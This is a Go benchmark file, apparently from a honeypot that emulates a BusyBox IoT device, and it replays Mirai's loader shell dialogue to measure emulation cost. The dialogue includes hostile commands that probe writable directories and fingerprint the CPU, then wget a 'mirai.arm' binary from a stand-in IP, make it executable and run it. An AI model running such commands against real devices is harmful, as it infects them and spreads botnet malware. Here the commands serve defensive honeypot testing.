package busybox

import (
	"context"
	"testing"
)

// miraiDialogue is the shell part of Mirai's loader dialogue (the golden
// transcript telnet/testdata/golden/mirai_loader.in).
var miraiDialogue = []string{
	"/bin/busybox ECCHI",
	"/bin/busybox ps; /bin/busybox ECCHI",
	"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/proc' > /proc/.nippon; /bin/busybox cat /proc/.nippon; /bin/busybox rm /proc/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/sys' > /sys/.nippon; /bin/busybox cat /sys/.nippon; /bin/busybox rm /sys/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev/pts' > /dev/pts/.nippon; /bin/busybox cat /dev/pts/.nippon; /bin/busybox rm /dev/pts/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev/shm' > /dev/shm/.nippon; /bin/busybox cat /dev/shm/.nippon; /bin/busybox rm /dev/shm/.nippon",
	"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.nippon; /bin/busybox cat /mnt/mtd/.nippon; /bin/busybox rm /mnt/mtd/.nippon",
	"/bin/busybox ECCHI",
	"cd /tmp/",
	"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
	"/bin/busybox cat /bin/echo",
	"/bin/busybox ECCHI",
	"/bin/busybox cat /proc/cpuinfo; /bin/busybox ECCHI",
	"/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
	"/bin/busybox wget http://198.51.100.9:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
	"./dvrHelper telnet.arm; /bin/busybox IHCCE",
	"rm -rf upnp; > dvrHelper; /bin/busybox ECCHI",
}

// BenchmarkMiraiDialogue runs Mirai's loader dialogue in a fresh shell per
// iteration: the cost of the emulated device per worm session, without
// the network or the events.
func BenchmarkMiraiDialogue(b *testing.B) {
	d := newDevice(DefaultProfile(), DefaultLimits())
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sh := newShell(d)
		for _, l := range miraiDialogue {
			sh.run(context.Background(), l)
		}
		sh.close()
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "sessions/s")
}
